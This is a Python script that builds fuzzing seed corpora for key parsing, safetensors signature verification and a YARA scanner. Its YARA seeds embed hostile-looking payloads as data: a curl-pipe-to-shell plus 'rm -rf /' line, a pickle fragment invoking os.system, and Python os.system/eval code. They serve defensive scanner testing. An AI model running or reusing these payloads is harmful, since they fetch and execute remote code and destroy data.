#!/usr/bin/env python3
"""Writes the seed corpora of fuzz_keys, fuzz_stsig and fuzz_yara from the
STSIG test vectors (tests/signer/vectors, TEST-ONLY key) and a few hand-made
inputs. Usage: make_signer_corpus.py [FUZZ_DIR] (default: this directory)."""
import hashlib
import json
import os
import struct
import subprocess
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
VECTORS = os.path.join(HERE, "..", "tests", "signer", "vectors")
NAMES = ["v1-basic", "v1-model-version-unicode", "v1-shard-2-of-3"]


OMS_KEYS = os.path.join(HERE, "..", "tests", "fixtures", "oms", "keys")


def read_oms(name):
    with open(os.path.join(OMS_KEYS, name), "rb") as f:
        return f.read()


def openssl(*args):
    return subprocess.run(("openssl",) + args, check=True, capture_output=True).stdout


def read(name):
    with open(os.path.join(VECTORS, name), "rb") as f:
        return f.read()


def write(corpus, name, data):
    os.makedirs(corpus, exist_ok=True)
    with open(os.path.join(corpus, name), "wb") as f:
        f.write(data)


def header_and_data(st):
    n = struct.unpack("<Q", st[:8])[0]
    return json.loads(st[8 : 8 + n]), st[8 + n :]


def keys(corpus):
    pub, key = read("test-key.pub"), read("test-key.key")
    write(corpus, "public.pem", pub)
    write(corpus, "private.pem", key)
    write(corpus, "public-crlf.pem", pub.replace(b"\n", b"\r\n"))
    write(corpus, "public-spaces.pem", b"\n\n" + pub + b" \t\n")
    write(corpus, "two-blocks.pem", pub + pub)
    write(corpus, "key-then-public.pem", key + pub)
    write(corpus, "trailing.pem", pub + b"# comment\n")
    write(corpus, "leading.pem", b"comment\n" + pub)
    write(corpus, "no-end.pem", pub[: len(pub) // 2])
    write(corpus, "raw-zero", b"RAW:" + bytes(32))
    der = bytes.fromhex("302a300506032b6570032100") + bytes(range(32))
    write(corpus, "raw-seed-like", b"RAW:" + der[12:])
    # ECDSA (issue 11): the oms fixture keys (SEC1, SPKI) and what openssl
    # derives from them: PKCS#8, EC PARAMETERS + EC PRIVATE KEY, a compressed
    # point, explicit parameters (refused).
    for curve in ("p256", "p384", "p521"):
        write(corpus, curve + ".sec1.pem", read_oms(curve + ".priv.pem"))
        write(corpus, curve + ".pub.pem", read_oms(curve + ".pub.pem"))
    sec1 = os.path.join(OMS_KEYS, "p256.priv.pem")
    write(corpus, "p256.pkcs8.pem", openssl("pkey", "-in", sec1))
    write(corpus, "p256.params-then-key.pem",
          openssl("ecparam", "-name", "prime256v1") + read_oms("p256.priv.pem"))
    write(corpus, "p384.params-then-p256-key.pem",
          openssl("ecparam", "-name", "secp384r1") + read_oms("p256.priv.pem"))
    write(corpus, "p256.compressed.pub.pem",
          openssl("ec", "-in", sec1, "-pubout", "-conv_form", "compressed"))
    write(corpus, "p256.explicit.pub.pem",
          openssl("ec", "-in", sec1, "-pubout", "-param_enc", "explicit"))


def stsig(corpus):
    for name in NAMES:
        signed = read(name + ".signed.safetensors")
        write(corpus, name + ".raw", b"\x00" + signed)
        write(corpus, name + ".unsigned.raw", b"\x00" + read(name + ".unsigned.safetensors"))
        header, data = header_and_data(signed)
        meta = header.get("__metadata__", {})
        records = meta["stsig.v1"].encode()
        digests = meta["stsig.v1.sha256"].encode()
        # Mode 1: the vector's strings over new tensors (digests mismatch).
        write(corpus, name + ".strings", b"\x01" + records + b"\x00" + digests + b"\x00" + data)
        write(corpus, name + ".strings2", b"\x11" + records + b"\x00" + digests + b"\x00" + data)
        # Mode 2: the vector's records, re-signed over one and two tensors.
        write(corpus, name + ".resign", b"\x02" + records + b"\x00\x00" + data)
        write(corpus, name + ".resign2", b"\x12" + records + b"\x00\x00" + data)
    signed = read("v1-basic.signed.safetensors")
    header, data = header_and_data(signed)
    records = json.loads(header["__metadata__"]["stsig.v1"])
    two = json.dumps(records + [dict(records[0], kid="00" * 16)], separators=(",", ":"))
    write(corpus, "two-records.resign", b"\x02" + two.encode() + b"\x00\x00" + data)
    write(corpus, "digests-only", b"\x01\x00{}\x00")
    # Mode 1 with the true digest map of tensor "a": the record's signature
    # is over other tensors, so it must not verify.
    true_map = json.dumps({"a": hashlib.sha256(data).hexdigest()}, separators=(",", ":"))
    write(corpus, "stale-signature", b"\x01" + header["__metadata__"]["stsig.v1"].encode() +
          b"\x00" + true_map.encode() + b"\x00" + data)


def yara(corpus):
    # byte 0 scope, byte 1 chunking, byte 2 base offset; then the scanned bytes.
    write(corpus, "evil-in-header", b"\x00\x05\x00" + b'{"a":"evil system"}' + b"x" * 40)
    write(corpus, "proto-pickle", b"\x02\x41\x01" + b"\x80\x02cos\nsystem\n" + b"." * 50)
    write(corpus, "wide-member", b"\x03\xff\x00" + b"a\x00b\x00" * 20 + b"SYSTEM")
    write(corpus, "shell", b"\x04\x10\x00" + b"curl http://x | sh; rm -rf / ; evil")
    write(corpus, "python", b"\x01\x20\x03" + b"import os; os.system('id'); eval(compile(''))")


def main():
    fuzz_dir = sys.argv[1] if len(sys.argv) > 1 else HERE
    keys(os.path.join(fuzz_dir, "corpus", "fuzz_keys"))
    stsig(os.path.join(fuzz_dir, "corpus", "fuzz_stsig"))
    yara(os.path.join(fuzz_dir, "corpus", "fuzz_yara"))


if __name__ == "__main__":
    main()
